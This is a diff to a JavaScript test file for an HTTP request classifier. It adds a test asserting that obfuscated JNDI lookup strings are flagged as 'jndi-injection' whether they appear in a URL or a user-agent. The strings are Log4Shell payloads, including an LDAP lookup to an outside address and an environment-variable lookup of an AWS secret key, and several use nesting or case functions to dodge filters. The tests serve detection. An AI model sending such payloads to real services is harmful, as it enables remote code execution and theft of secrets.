@@ -123,6 +123,24 @@ describe('nested and odd encodings', () => {
   });
 });
 
+describe('disguises of a look-up', () => {
+  it.each([
+    '${jndi:ldap://198.18.0.66/a}',
+    '$%7Bjndi:dns://198.18.0.66%7D',
+    '${lower:j}${lower:n}di:ldap://x',
+    '${upper:j}ndi',
+    '${env:AWS_SECRET_ACCESS_KEY}',
+    '${sys:os.name}',
+    '${date:j}',
+    '${::-j}${::-n}${::-d}${::-i}',
+    '${env:NaN:-j}ndi',
+    '${${::-j}ndi:rmi://x}',
+  ])('do not hide it: %s', (value) => {
+    expect(labels({ target: `/?x=${value}` })).toContain('jndi-injection');
+    expect(labels({ agent: value })).toContain('jndi-injection');
+  });
+});
+
 describe('requests that are none', () => {
   it.each([
     ['TLS on the wrong port', String.raw`\x16\x03\x01\x01 \x02`, 400, 226, 'requestLine'],
